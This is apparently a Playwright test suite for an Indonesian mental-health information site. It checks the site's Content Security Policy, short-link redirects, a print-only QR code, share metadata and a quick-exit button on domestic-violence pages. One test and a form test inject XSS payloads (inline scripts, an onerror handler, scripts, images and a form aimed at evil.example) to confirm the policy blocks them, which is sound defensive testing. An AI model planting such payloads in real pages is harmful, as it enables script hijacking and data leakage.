"""Short addresses, codes on paper, and a policy that stops strangers and nothing of ours."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route

pytestmark = pytest.mark.browser

GUIDE = "koping/cemas-berlebihan/"
ON_VIOLENCE = "koping/aman-di-rumah/"
WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) => window.stopped.push(event.violatedDirective));
"""


def watched(page: Page) -> list[str]:
    """Note what the page says went wrong from now on."""
    said: list[str] = []
    page.add_init_script(WATCH)
    page.on("console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    return said


@pytest.mark.parametrize(
    "name",
    [
        "",
        "en/",
        "bantuan/",
        GUIDE,
        ON_VIOLENCE,
        "praktik-aman/cara-cuci-tangan/",
        "istilah/",
        "layanan/healing119/",
        "404.html",
    ],
)
def test_nothing_of_ours_is_blocked(phone: Page, address: str, name: str) -> None:
    said = watched(phone)
    phone.goto(address + name, wait_until="networkidle")
    assert phone.evaluate("window.stopped") == []
    assert said == []


def test_the_search_form_may_be_sent_and_its_results_fetched(phone: Page, address: str) -> None:
    said = watched(phone)
    phone.goto(address)
    phone.fill("[data-search] input", "cemas")
    phone.press("[data-search] input", "Enter")
    phone.wait_for_url(re.compile(r"cari/hasil/#q=cemas"))
    phone.wait_for_load_state("networkidle")
    assert phone.locator("main a[href*='cemas']").count()
    assert phone.evaluate("window.stopped") == []
    assert said == []


def _from_the_page_alone(page: Page, site: Path, address: str, injected: str) -> None:
    """Open a page with a stranger's bytes in it, on a host that sends no header."""
    html = (site / GUIDE / "index.html").read_text(encoding="utf-8").replace("<h1>", f"{injected}<h1>", 1)
    assert injected in html

    def answer(route: Route) -> None:
        route.fulfill(content_type="text/html", body=html)

    page.route(address + GUIDE, answer)
    page.add_init_script(WATCH)
    page.goto(address + GUIDE, wait_until="networkidle")


@pytest.mark.parametrize(
    ("injected", "directive"),
    [
        ("<script>window.hijacked = 1</script>", "script-src-elem"),
        ("<img src=x onerror='window.hijacked = 1'>", "script-src-attr"),
        ("<script src='https://evil.example/a.js'></script>", "script-src-elem"),
        ("<script src='data:text/javascript,window.hijacked=1'></script>", "script-src-elem"),
        ("<iframe srcdoc='<script>parent.hijacked = 1</script>'></iframe>", "script-src-elem"),
        ("<style>body { display: none }</style>", "style-src-elem"),
        ("<img src='https://evil.example/who.gif'>", "img-src"),
        ("<object data='data:text/html,x'></object>", "object-src"),
        ("<link rel=stylesheet href='https://evil.example/a.css'>", "style-src-elem"),
    ],
)
def test_a_strangers_bytes_do_nothing(phone: Page, site: Path, address: str, injected: str, directive: str) -> None:
    _from_the_page_alone(phone, site, address, injected)
    assert phone.evaluate("window.hijacked") is None
    stopped = phone.evaluate("window.stopped")
    assert directive in stopped or (injected.startswith("<iframe") and not stopped), stopped


def test_a_form_sends_nothing_elsewhere(phone: Page, site: Path, address: str) -> None:
    _from_the_page_alone(phone, site, address, "<form action='https://evil.example/'><button id=x>x</button></form>")
    phone.evaluate("document.getElementById('x').click()")
    phone.wait_for_function("window.stopped.includes('form-action')")
    assert phone.url == address + GUIDE


@pytest.mark.parametrize("root", ["", "en/"])
def test_a_short_address_leads_to_the_page(phone: Page, without_script: Page, address: str, root: str) -> None:
    for page in (phone, without_script):
        page.goto(f"{address}{root}i/cemas-berlebihan/")
        page.wait_for_url(address + root + GUIDE)
        assert page.locator("h1").count() == 1


def test_the_code_is_for_paper(phone: Page, address: str) -> None:
    asked: list[str] = []
    phone.on("request", lambda request: asked.append(request.url))
    phone.goto(address + GUIDE, wait_until="networkidle")
    phone.evaluate("scrollTo(0, document.body.scrollHeight)")
    phone.wait_for_timeout(300)
    code = phone.locator(".code img")
    assert not code.is_visible()
    assert not [url for url in asked if "/qr/" in url]
    phone.emulate_media(media="print")
    phone.pdf(format="A5")
    assert [url for url in asked if url.endswith("assets/qr/cemas-berlebihan.svg")]
    assert phone.evaluate("document.querySelector('.code img').naturalWidth") > 0
    box = code.bounding_box()
    assert box
    assert 24 <= box["width"] * 25.4 / 96 <= 26
    assert phone.inner_text(".code").strip() == "https://pangkalan-psikoedukasi.example/i/cemas-berlebihan/"
    phone.goto(address + ON_VIOLENCE)
    assert phone.locator(".code").count() == 0


def test_the_code_is_there_before_the_paper(phone: Page, desk: Page, address: str) -> None:
    ready = "document.querySelector('.code img').naturalWidth > 0"
    phone.add_init_script(f"window.print = () => {{ window.printed = {ready} }}")
    phone.goto(address + GUIDE)
    phone.locator("[data-print]").click()
    phone.wait_for_function("window.printed !== undefined")
    assert phone.evaluate("window.printed")
    desk.goto(address + GUIDE)
    desk.wait_for_function(ready)


def test_what_messengers_read_is_there(without_script: Page, site: Path, address: str) -> None:
    for name in (GUIDE, f"i/{GUIDE.split('/')[1]}/"):
        html = (site / name / "index.html").read_text(encoding="utf-8")
        told = dict(re.findall(r'<meta property="og:([^"]+)" content="([^"]*)">', html))
        assert told["title"] == "Saat cemas berlebihan atau panik datang"
        assert (told["image:width"], told["image:height"], told["image:type"]) == ("1200", "630", "image/png")
        picture = without_script.request.get(told["image"].replace("https://pangkalan-psikoedukasi.example/", address))
        assert picture.ok
        assert len(picture.body()) <= 60_000


def test_services_and_terms_on_violence_have_the_way_out(without_script: Page, address: str) -> None:
    for name in ("istilah/kdrt/", "istilah/uptd-ppa/", "layanan/sapa-129/", "en/layanan/sapa-129/"):
        without_script.goto(address + name)
        assert without_script.locator("[data-exit]").count() == 1
        assert "kekerasan" not in without_script.title().casefold()
